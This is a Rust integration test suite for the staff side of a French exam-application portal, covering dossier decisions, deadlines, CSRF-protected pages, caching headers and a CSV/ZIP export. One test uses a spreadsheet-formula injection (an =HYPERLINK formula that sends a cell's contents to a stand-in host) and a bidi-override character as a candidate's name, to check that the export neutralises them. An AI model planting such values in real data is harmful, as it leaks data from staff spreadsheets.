//! The CDG's side over HTTP, black-box: a candidate closes; staff asks for a piece with a
//! deadline; the candidate uploads it and transmits; staff declares the dossier recevable; the
//! candidate reads each state in French. A late deferred piece is refused; a forclos dossier
//! is listed apart; the export opens, its CSV parses and every file matches its record.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic to fail

mod commun;

use std::io::Read;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use depot_core::exemples::pdf_minimal;
use depot_core::testkit::concours_du_seed;
use depot_core::{Espace, HorlogeFixe, Ports, Role, Sha256};
use depot_http::gestion::CompteGestionnaire;
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

fn t(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

const INSTRUCTEUR: &str = "jeton-instructeur-3b1f0c8e9d7a6b5c4d3e2f1a0b9c8d7e";
const LECTEUR: &str = "jeton-lecteur-9f8e7d6c5b4a39281706f5e4d3c2b1a0";
const MDP: &str = "lune verte sur le toit de Laval";

struct App {
    base: String,
    h: Arc<HorlogeFixe>,
    c: reqwest::Client,
}

async fn app() -> App {
    let h = Arc::new(HorlogeFixe::new(t("2025-04-01T10:00:00+02:00")));
    let espace = Arc::new(
        Espace::new(
            vec![concours_du_seed()],
            Ports::en_memoire().avec_horloge(h.clone()),
        )
        .unwrap(),
    );
    let config = depot_http::Config {
        gestionnaires: vec![
            CompteGestionnaire {
                id: "agent-instruction".into(),
                role: Role::Instruction,
                jeton_sha256: Sha256::de(INSTRUCTEUR.as_bytes()),
            },
            CompteGestionnaire {
                id: "agent-lecture".into(),
                role: Role::Lecture,
                jeton_sha256: Sha256::de(LECTEUR.as_bytes()),
            },
        ],
        ..Default::default()
    };
    let base = format!(
        "{}/api/v1",
        commun::servir(depot_http::router(espace, config)).await
    );
    App {
        base,
        h,
        c: reqwest::Client::new(),
    }
}

impl App {
    async fn candidat(&self, voie: &str, email: &str) -> (String, String) {
        self.candidat_nomme(voie, email, "Durand", "Camille").await
    }
    async fn candidat_nomme(
        &self,
        voie: &str,
        email: &str,
        nom: &str,
        prenom: &str,
    ) -> (String, String) {
        self.h.regler(t("2025-04-01T10:00:00+02:00"));
        let r: Value = self.c.post(format!("{}/preinscriptions", self.base)).json(&json!({"voie": voie, "nom": nom, "prenom": prenom, "email": email, "mot_de_passe": MDP})).send().await.unwrap().json().await.unwrap();
        let n = r["numero"].as_str().unwrap().to_owned();
        let j = self.connexion(&n).await;
        (n, j)
    }
    async fn connexion(&self, n: &str) -> String {
        let r: Value = self
            .c
            .post(format!("{}/connexion", self.base))
            .json(&json!({"numero": n, "mot_de_passe": MDP}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        r["jeton"].as_str().unwrap().to_owned()
    }
    async fn deposer(&self, j: &str, piece: &str) -> (u16, Value) {
        let form = Form::new().part(
            "fichier",
            Part::bytes(pdf_minimal()).file_name(format!("{piece}.pdf")),
        );
        let r = self
            .c
            .post(format!("{}/dossier/pieces/{piece}", self.base))
            .bearer_auth(j)
            .multipart(form)
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
    }
    async fn vue(&self, j: &str) -> Value {
        self.c
            .get(format!("{}/dossier", self.base))
            .bearer_auth(j)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    }
    async fn decider(&self, jeton: &str, n: &str, corps: Value) -> (u16, Value) {
        let r = self
            .c
            .post(format!("{}/gestion/dossiers/{n}/decision", self.base))
            .bearer_auth(jeton)
            .json(&corps)
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
    }
    /// The candidate's dossier page (logging in through the pages, with their CSRF cookie).
    async fn page_candidat(&self, n: &str) -> String {
        let racine = self.base.trim_end_matches("/api/v1");
        let c = commun::client_sans_redirection();
        let (_, session) = commun::connexion_par_les_pages(&c, racine, n, MDP).await;
        c.get(format!("{racine}/dossier"))
            .header("cookie", session)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
    }

    async fn gestion(&self, chemin: &str) -> Value {
        let r = self
            .c
            .get(format!("{}/gestion{chemin}", self.base))
            .bearer_auth(INSTRUCTEUR)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{chemin}");
        r.json().await.unwrap()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instruction_de_bout_en_bout() {
    let a = app().await;
    let (n, j) = a.candidat("externe", "c@exemple.fr").await;
    assert_eq!(a.deposer(&j, "piece-identite").await.0, 201);
    a.h.regler(t("2025-04-10T10:00:00+02:00"));
    let j = a.connexion(&n).await;
    assert_eq!(
        a.c.post(format!("{}/dossier/cloture", a.base))
            .bearer_auth(&j)
            .send()
            .await
            .unwrap()
            .status(),
        200
    );

    // Staff only, with their own tokens.
    assert_eq!(
        a.c.get(format!("{}/gestion/dossiers", a.base))
            .send()
            .await
            .unwrap()
            .status(),
        401
    );
    assert_eq!(
        a.c.get(format!("{}/gestion/dossiers", a.base))
            .bearer_auth(&j)
            .send()
            .await
            .unwrap()
            .status(),
        401
    );
    let liste = a.gestion("/dossiers?etat=cloture").await;
    assert_eq!(liste["total"], 1);
    assert_eq!(liste["dossiers"][0]["numero"], n.as_str());

    // A reader cannot decide; the instructor asks for the diploma until 15 May.
    let demande = json!({"decision": "complements", "pieces": ["diplome"], "message": "Joignez la copie de votre diplôme.", "date_limite": "2025-05-15"});
    let (s, e) = a.decider(LECTEUR, &n, demande.clone()).await;
    assert_eq!((s, e["code"].as_str()), (403, Some("action_non_autorisee")));
    let (s, r) = a.decider(INSTRUCTEUR, &n, demande).await;
    assert_eq!((s, r["etat"].as_str()), (200, Some("incomplet")), "{r}");
    let v = a.vue(&j).await;
    assert_eq!(v["etat"], "incomplet");
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .contains("Joignez la copie de votre diplôme"),
        "{v}"
    );
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .contains("jeudi 15 mai 2025 à minuit"),
        "{v}"
    );
    let page = a.page_candidat(&n).await;
    assert!(
        page.contains("Votre dossier est incomplet")
            && page.contains("Transmettre les compléments"),
        "{page}"
    );

    // The candidate uploads the requested piece only, then transmits.
    assert_eq!(
        a.deposer(&j, "piece-identite").await.1["code"],
        "dossier_cloture"
    );
    let r =
        a.c.post(format!("{}/dossier/complements", a.base))
            .bearer_auth(&j)
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), 409);
    assert_eq!(a.deposer(&j, "diplome").await.0, 201);
    let r: Value =
        a.c.post(format!("{}/dossier/complements", a.base))
            .bearer_auth(&j)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    assert_eq!(r["etat"], "cloture");
    assert_eq!(
        r["message"],
        "Votre dossier est clôturé, il est en cours d'instruction."
    );
    assert!(
        a.page_candidat(&n)
            .await
            .contains("Votre dossier est clôturé, il est en cours")
    );

    // Recevable.
    let (s, r) = a
        .decider(INSTRUCTEUR, &n, json!({"decision": "recevable"}))
        .await;
    assert_eq!((s, r["etat"].as_str()), (200, Some("recevable")));
    let v = a.vue(&j).await;
    assert_eq!(
        v["message"],
        "Votre dossier a été déclaré recevable : vous êtes admis(e) à concourir."
    );
    assert!(
        a.page_candidat(&n)
            .await
            .contains("Votre dossier a été déclaré recevable : vous êtes admis(e) à concourir.")
    );
    let (s, e) = a
        .decider(
            INSTRUCTEUR,
            &n,
            json!({"decision": "rejet", "motif": "hors_delai"}),
        )
        .await;
    assert_eq!((s, e["code"].as_str()), (409, Some("transition_interdite")));

    // The staff view has the journal with the staff id.
    let d = a.gestion(&format!("/dossiers/{n}")).await;
    let journal = d["journal"].to_string();
    assert!(
        journal.contains("agent-instruction")
            && journal.contains("demande_complements")
            && journal.contains("recevable"),
        "{journal}"
    );
    let id = d["dossier"]["pieces"][0]["fichiers"][0]["id"]
        .as_str()
        .unwrap();
    let f =
        a.c.get(format!("{}/gestion/dossiers/{n}/fichiers/{id}", a.base))
            .bearer_auth(LECTEUR)
            .send()
            .await
            .unwrap();
    assert_eq!(f.bytes().await.unwrap().to_vec(), pdf_minimal());
    // Who saw what: the view and the download are in the journal, with the staff id.
    let j = a.gestion(&format!("/dossiers/{n}")).await["journal"].clone();
    let lectures: Vec<_> = j
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["quoi"]["type"] == "consultation")
        .map(|e| {
            (
                e["acteur"]["gestionnaire"]["id"]
                    .as_str()
                    .unwrap()
                    .to_owned(),
                e["quoi"]["fichier"].as_str().map(str::to_owned),
            )
        })
        .collect();
    assert_eq!(
        lectures,
        [
            ("agent-instruction".to_owned(), None),
            ("agent-lecture".to_owned(), Some(id.to_owned())),
            // This very read: something happened since the first one.
            ("agent-instruction".to_owned(), None),
        ],
        "{j}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn differees_forclos_et_export() {
    let a = app().await;
    let (interne, ji) = a.candidat("interne", "i@exemple.fr").await;
    a.deposer(&ji, "piece-identite").await;
    // A name a spreadsheet would run as a formula, a given name with a bidi override
    // (findings 5 and 6 of the outside test).
    let formule = "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"Cliquez ici\")";
    let (forclos, jf) = a
        .candidat_nomme("externe", "f@exemple.fr", formule, "Cam\u{202E}ille")
        .await;
    a.deposer(&jf, "piece-identite").await;
    a.h.regler(t("2025-04-17T23:00:00+02:00"));
    let ji = a.connexion(&interne).await;
    a.c.post(format!("{}/dossier/cloture", a.base))
        .bearer_auth(&ji)
        .send()
        .await
        .unwrap();
    // The staff view lists which deferred pieces are still expected.
    let attendus = a.gestion("/dossiers?pieces_attendues=true").await;
    assert_eq!(attendus["total"], 1);
    assert_eq!(
        attendus["dossiers"][0]["pieces_attendues"],
        json!(["etat-des-services", "arretes"])
    );
    // Deferred piece on time, then one too late.
    a.h.regler(t("2025-06-19T23:00:00+02:00"));
    let ji = a.connexion(&interne).await;
    assert_eq!(a.deposer(&ji, "etat-des-services").await.0, 201);
    a.h.regler(t("2025-06-20T00:00:01+02:00"));
    let ji = a.connexion(&interne).await;
    let (s, e) = a.deposer(&ji, "arretes").await;
    assert_eq!((s, e["code"].as_str()), (409, Some("delai_depasse")));
    assert!(
        e["message"]
            .as_str()
            .unwrap()
            .contains("jeudi 19 juin 2025")
    );

    // The dossier never closed is listed apart, and cannot be admitted.
    let f = a.gestion("/forclos").await;
    assert_eq!(f["total"], 1);
    assert_eq!(f["dossiers"][0]["numero"], forclos.as_str());
    let (s, _) = a
        .decider(INSTRUCTEUR, &forclos, json!({"decision": "recevable"}))
        .await;
    assert_eq!(s, 409);

    // Export everything.
    let r =
        a.c.post(format!("{}/gestion/export", a.base))
            .bearer_auth(LECTEUR)
            .json(&json!({}))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/zip");
    let octets = r.bytes().await.unwrap();
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(octets.to_vec())).unwrap();
    let mut csv_texte = Vec::new();
    z.by_name("dossiers.csv")
        .unwrap()
        .read_to_end(&mut csv_texte)
        .unwrap();
    assert!(csv_texte.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM");
    let mut lecteur = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&csv_texte[3..]);
    let lignes: Vec<csv::StringRecord> = lecteur.records().map(Result::unwrap).collect();
    assert_eq!(lignes.len(), 2);
    assert_eq!(lecteur.headers().unwrap().get(4), Some("état"));
    for n in [&interne, &forclos] {
        let d = a.gestion(&format!("/dossiers/{n}")).await;
        let ligne = lignes
            .iter()
            .find(|l| l.get(0) == Some(n.as_str()))
            .unwrap();
        assert_eq!(ligne.get(4), d["dossier"]["etat"].as_str());
        if n == &forclos {
            assert_eq!(ligne.get(1), Some(format!("'{formule}").as_str()));
            assert_eq!(ligne.get(2), Some("Camille"));
            assert_eq!(d["identite"]["prenom"], "Camille");
        }
        for p in d["dossier"]["pieces"].as_array().unwrap() {
            for (i, f) in p["fichiers"].as_array().unwrap().iter().enumerate() {
                let mut contenu = Vec::new();
                z.by_name(&format!(
                    "{n}/{}-{}.pdf",
                    p["code"].as_str().unwrap(),
                    i + 1
                ))
                .unwrap()
                .read_to_end(&mut contenu)
                .unwrap();
                assert_eq!(Sha256::de(&contenu).hex(), f["sha256"].as_str().unwrap());
            }
        }
    }
    assert!(z.by_name(&format!("{interne}/recepisse.json")).is_ok());
    // Each exported dossier's journal says who exported it.
    for n in [&interne, &forclos] {
        let j = a.gestion(&format!("/dossiers/{n}")).await["journal"].to_string();
        assert!(
            j.contains(r#"{"acteur":{"gestionnaire":{"id":"agent-instruction"}},"#)
                && j.contains(r#""quoi":{"type":"export"}"#),
            "{j}"
        );
    }
    assert!(
        z.by_name(&format!("{forclos}/recepisse.json")).is_err(),
        "never closed, no récépissé"
    );
    assert!(
        lignes
            .iter()
            .any(|l| l.get(5).unwrap().starts_with("17/04/2025 23:00"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_du_service_concours() {
    let a = app().await;
    let (n, j) = a.candidat("externe", "p@exemple.fr").await;
    a.deposer(&j, "piece-identite").await;
    a.c.post(format!("{}/dossier/cloture", a.base))
        .bearer_auth(&j)
        .send()
        .await
        .unwrap();
    let racine = a.base.trim_end_matches("/api/v1").to_owned();
    let c = commun::client_sans_redirection();
    // Without the cookie: to the login page. A wrong token: refused.
    assert_eq!(
        c.get(format!("{racine}/gestion"))
            .send()
            .await
            .unwrap()
            .headers()["location"],
        "/gestion/connexion"
    );
    // The login form's CSRF: a post without its cookie (another site's form) is refused.
    assert_eq!(
        c.post(format!("{racine}/gestion/connexion"))
            .form(&[("csrf", "x"), ("jeton", INSTRUCTEUR)])
            .send()
            .await
            .unwrap()
            .status(),
        403
    );
    let formulaire = |jeton: &'static str| {
        let (c, racine) = (c.clone(), racine.clone());
        async move {
            let r = c
                .get(format!("{racine}/gestion/connexion"))
                .send()
                .await
                .unwrap();
            let paire = r.headers()["set-cookie"]
                .to_str()
                .unwrap()
                .split(';')
                .next()
                .unwrap()
                .to_owned();
            let csrf = commun::csrf(&r.text().await.unwrap());
            c.post(format!("{racine}/gestion/connexion"))
                .header("cookie", paire)
                .form(&[("csrf", csrf.as_str()), ("jeton", jeton)])
                .send()
                .await
                .unwrap()
        }
    };
    assert_eq!(formulaire("faux").await.status(), 401);
    let connecter = |jeton: &'static str| {
        async move {
            let r = formulaire(jeton).await;
            assert_eq!(r.status(), 303);
            let cookie = commun::cookie_pose(&r, "depot_gestion");
            assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"));
            // Finding 7: the cookie holds a session, never the permanent token.
            assert!(!cookie.contains(jeton));
            cookie.split(';').next().unwrap().to_owned()
        }
    };
    // A reader sees the dossier but no decision button.
    let lecteur = connecter(LECTEUR).await;
    let page = commun::page(&c, &format!("{racine}/gestion/dossiers/{n}"), &lecteur).await;
    assert!(page.contains(n.as_str()) && !page.contains("id=\"recevable\""));
    // The instructor: list, dossier, decision with the CSRF token.
    let cookie = connecter(INSTRUCTEUR).await;
    let liste = commun::page(&c, &format!("{racine}/gestion?etat=cloture"), &cookie).await;
    assert!(liste.contains(n.as_str()));
    let page = commun::page(&c, &format!("{racine}/gestion/dossiers/{n}"), &cookie).await;
    assert!(page.contains("id=\"recevable\"") && page.contains("Journal"));
    let csrf = commun::csrf(&page);
    let r = c
        .post(format!("{racine}/gestion/dossiers/{n}/decision"))
        .header("cookie", &cookie)
        .form(&[("csrf", "faux"), ("decision", "recevable")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // Every form of the page, as a browser sends it: every field of the form, the unused
    // ones empty, a ticked box once per value.
    let decider = |champs: Vec<(&'static str, &'static str)>| {
        let (c, racine, cookie, csrf, n) = (
            c.clone(),
            racine.clone(),
            cookie.clone(),
            csrf.clone(),
            n.clone(),
        );
        async move {
            let mut f = vec![("csrf", csrf.as_str())];
            f.extend(champs);
            c.post(format!("{racine}/gestion/dossiers/{n}/decision"))
                .header("cookie", &cookie)
                .form(&f)
                .send()
                .await
                .unwrap()
        }
    };
    let r = decider(vec![
        ("decision", "complements"),
        ("pieces", "diplome"),
        ("pieces", "piece-identite"),
        ("message", "Joignez ces deux pièces."),
        ("date_limite", "2099-05-15"),
    ])
    .await;
    assert_eq!(r.status(), 303);
    let v = a.vue(&j).await;
    assert_eq!(v["etat"], "incomplet");
    let message = v["message"].as_str().unwrap();
    assert!(
        message.contains("diplôme") && message.contains("pièce d'identité"),
        "{message}"
    );
    // A missing field: the page says which, in French.
    let r = decider(vec![("decision", "rejet"), ("texte", "")]).await;
    assert_eq!(r.status(), 422);
    assert!(r.text().await.unwrap().contains("choisissez un motif"));
    let r = decider(vec![
        ("decision", "rejet"),
        ("motif", "autre"),
        ("texte", "Pièces illisibles."),
    ])
    .await;
    assert_eq!(r.status(), 303);
    assert_eq!(a.vue(&j).await["etat"], "rejete");
    let r = decider(vec![
        ("decision", "revision"),
        ("raison", "Recours gracieux."),
    ])
    .await;
    assert_eq!(r.status(), 303);
    assert_eq!(a.vue(&j).await["etat"], "cloture");
    let r = decider(vec![("decision", "recevable")]).await;
    assert_eq!(r.status(), 303);
    assert_eq!(a.vue(&j).await["etat"], "recevable");
    // « Se déconnecter » ends the session: the same cookie opens nothing any more.
    let page = commun::page(&c, &format!("{racine}/gestion"), &cookie).await;
    let csrf = commun::csrf(&page);
    let r = c
        .post(format!("{racine}/gestion/deconnexion"))
        .header("cookie", &cookie)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    let r = c
        .get(format!("{racine}/gestion"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["location"], "/gestion/connexion");
}

/// Findings 8, 9 and 10 of the outside test: the staff file route answered 503
/// `stockage_introuvable` for an unknown dossier; some API errors were not JSON (a bad query
/// string, a method not allowed, a body that is not multipart, a path that is not UTF-8);
/// answers with personal data could be cached.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn erreurs_en_json_et_rien_en_cache() {
    let a = app().await;
    let (n, j) = a.candidat("externe", "z@exemple.fr").await;
    let staff = |chemin: String| {
        a.c.get(format!("{}/gestion{chemin}", a.base))
            .bearer_auth(LECTEUR)
            .send()
    };
    let r = staff("/dossiers/2025-ANI-ZZZZZZ/fichiers/0123456789ABCDEF".into())
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "dossier_inconnu");
    // A bad query string.
    let r = staff("/dossiers?page=beaucoup".into()).await.unwrap();
    assert_eq!(r.status(), 400);
    assert_eq!(r.headers()["content-type"], "application/json");
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "requete_invalide");
    // A method the route does not take.
    let r =
        a.c.delete(format!("{}/connexion", a.base))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), 405);
    assert_eq!(
        r.json::<Value>().await.unwrap()["code"],
        "methode_non_autorisee"
    );
    // An upload that is not multipart.
    let r =
        a.c.post(format!("{}/dossier/pieces/piece-identite", a.base))
            .bearer_auth(&j)
            .body("pas un formulaire")
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), 400);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["code"], "requete_invalide", "{v}");
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .starts_with("La requête est invalide")
    );
    // A path segment that is not UTF-8.
    let r =
        a.c.get(format!("{}/dossier/pieces/%FF%FE", a.base))
            .bearer_auth(&j)
            .send()
            .await
            .unwrap();
    assert!(r.status().is_client_error());
    assert!(r.json::<Value>().await.unwrap()["code"].is_string());
    // Nothing with a token or personal data is cached, and pages neither.
    for r in [
        a.c.post(format!("{}/connexion", a.base))
            .json(&json!({"numero": n, "mot_de_passe": MDP}))
            .send()
            .await
            .unwrap(),
        a.c.get(format!("{}/dossier", a.base))
            .bearer_auth(&j)
            .send()
            .await
            .unwrap(),
        staff(format!("/dossiers/{n}")).await.unwrap(),
        a.c.get(a.base.replace("/api/v1", "/connexion"))
            .send()
            .await
            .unwrap(),
    ] {
        assert_eq!(r.headers()["cache-control"], "no-store", "{}", r.url());
    }
    // An unknown page is a French page, not an empty answer.
    let r =
        a.c.get(a.base.replace("/api/v1", "/nulle-part"))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), 404);
    assert!(r.text().await.unwrap().contains("Cette page n'existe pas"));
}

/// Retention on hold for a dossier under dispute: instructors only, with a reason; the
/// dossier view says it; resumed, it says so too. Both journaled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conservation_suspendue_puis_reprise() {
    let a = app().await;
    let (n, _) = a.candidat("externe", "c@exemple.fr").await;
    let poster = |jeton: &'static str, corps: Value| {
        let (c, url) = (
            a.c.clone(),
            format!("{}/gestion/dossiers/{n}/conservation", a.base),
        );
        async move {
            let r = c
                .post(url)
                .bearer_auth(jeton)
                .json(&corps)
                .send()
                .await
                .unwrap();
            (
                r.status().as_u16(),
                r.json::<Value>().await.unwrap_or(Value::Null),
            )
        }
    };
    let (s, v) = poster(LECTEUR, json!({"suspendue": true, "raison": "recours"})).await;
    assert_eq!((s, v["code"].as_str()), (403, Some("action_non_autorisee")));
    let (s, v) = poster(INSTRUCTEUR, json!({"suspendue": true})).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("champ_invalide")),
        "{v}"
    );
    let (s, v) = poster(
        INSTRUCTEUR,
        json!({"suspendue": true, "raison": "recours gracieux"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["suspendue"], true);
    let vue = a.gestion(&format!("/dossiers/{n}")).await;
    assert_eq!(
        vue["conservation"]["suspendue"]["raison"],
        "recours gracieux"
    );
    assert_eq!(vue["conservation"]["suspendue"]["par"], "agent-instruction");
    // The list of purges ahead answers (none configured for this concours).
    let prochaines = a.gestion("/conservation").await;
    assert_eq!(prochaines["jours"], 30);
    assert_eq!(prochaines["purges"], json!([]));
    let r =
        a.c.get(format!("{}/gestion/conservation?jours=0", a.base))
            .bearer_auth(LECTEUR)
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), 422);
    let (s, v) = poster(INSTRUCTEUR, json!({"suspendue": false})).await;
    assert_eq!((s, v["suspendue"].as_bool()), (200, Some(false)));
    let vue = a.gestion(&format!("/dossiers/{n}")).await;
    assert!(vue["conservation"]["suspendue"].is_null());
    let sortes: Vec<&str> = vue["journal"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["quoi"]["type"].as_str())
        .collect();
    assert!(
        sortes.contains(&"conservation_suspendue") && sortes.contains(&"conservation_reprise"),
        "{sortes:?}"
    );
}
